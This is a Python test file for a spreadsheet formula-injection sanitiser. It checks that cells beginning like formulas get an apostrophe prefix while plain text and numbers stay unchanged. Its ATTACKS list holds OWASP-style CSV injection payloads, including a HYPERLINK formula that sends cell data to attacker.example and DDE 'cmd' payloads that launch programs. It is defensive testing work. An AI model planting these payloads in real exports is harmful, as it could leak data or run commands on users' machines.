"""Formula-like text is made inert for spreadsheets; everything else is written as it came."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from risk.cohort.formula_cells import FORMULA_STARTS, defuse, defuse_column

# Payloads from OWASP's "CSV Injection" page and the usual DDE examples.
ATTACKS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "-A1",
    "+44 20 7946 0000",  # a phone number: Excel reads it as a formula too (#NAME?)
    "=",
]
HARMLESS = ["", "female", "999.0", "-5", "+1.5e3", "-.5", "1-2", "a=b", "O'Brien", " =1+1", "5e"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_formula_start_gets_an_apostrophe(cell: str) -> None:
    assert defuse(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_text_and_plain_numbers_are_left_alone(cell: str) -> None:
    assert defuse(cell) == cell


def test_a_sign_before_something_that_is_not_a_number_is_a_formula() -> None:
    assert defuse("-5x") == "'-5x"
    assert defuse("-5e") == "'-5e"
    assert defuse("-") == "'-"


@given(st.text())
def test_the_cell_is_kept_whole_and_never_starts_like_a_formula_unless_a_number(cell: str) -> None:
    shown = defuse(cell)
    assert shown in (cell, "'" + cell)
    if shown[:1] in set(FORMULA_STARTS):
        assert shown == cell
        float(cell)  # a plain number: a spreadsheet reads it as one


@given(st.text())
def test_defusing_twice_changes_nothing_more(cell: str) -> None:
    assert defuse(defuse(cell)) == defuse(cell)


@given(st.lists(st.one_of(st.none(), st.text(), st.sampled_from(ATTACKS + HARMLESS)), max_size=30))
def test_the_column_is_the_cells_one_by_one_and_missing_stays_missing(cells: list[str | None]) -> None:
    column = pd.Series(cells, dtype=object)
    mended = defuse_column(column)
    assert mended.index.equals(column.index)
    for before, after in zip(cells, mended, strict=True):
        if before is None:
            assert after is None or pd.isna(after)
        else:
            assert after == defuse(before)


def test_a_column_without_a_formula_is_returned_as_it_was() -> None:
    column = pd.Series(["female", None, "5"], dtype="str")
    assert defuse_column(column) is column
    signed = pd.Series(["female", None, "-5"], dtype="str")
    pd.testing.assert_series_equal(defuse_column(signed), signed)
